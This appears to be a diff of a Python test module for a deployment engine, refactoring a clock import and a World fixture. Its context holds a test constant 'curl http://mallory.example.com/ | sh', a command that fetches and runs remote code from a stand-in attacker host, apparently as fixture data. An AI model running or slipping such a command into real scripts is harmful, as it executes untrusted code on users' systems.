@@ -11,7 +11,7 @@ from typing import Any
 
 import pytest
 
-from stoker.base.clock import ManualClock, SystemClock
+from stoker.base.clock import SystemClock
 from stoker.base.context import RequestContext
 from stoker.base.errors import BadValue, EntityNotFound
 from stoker.base.ids import new_id
@@ -22,7 +22,7 @@ from stoker.engine.settings import EngineSettings
 from stoker.store import queries
 from stoker.store.journal import Batch
 from stoker.store.records import SoftwareDeployment
-from tests.engine.world import World
+from tests.harness import World
 
 SCRIPT = "curl http://mallory.example.com/ | sh"
 HIDDEN = "sesame-open-up"
@@ -80,7 +80,7 @@ def served() -> Iterator[ServedCloud]:
 @pytest.fixture
 async def world(served: ServedCloud, tmp_path: Path) -> AsyncIterator[World]:
     settings = EngineSettings(enable_stack_abandon=True, enable_stack_adopt=True)
-    world = await World(tmp_path / "stoker.db", served, ManualClock(SystemClock().now()), settings).start()
+    world = await World(tmp_path / "stoker.db", served, settings=settings).start()
     yield world
     await world.stop()
 
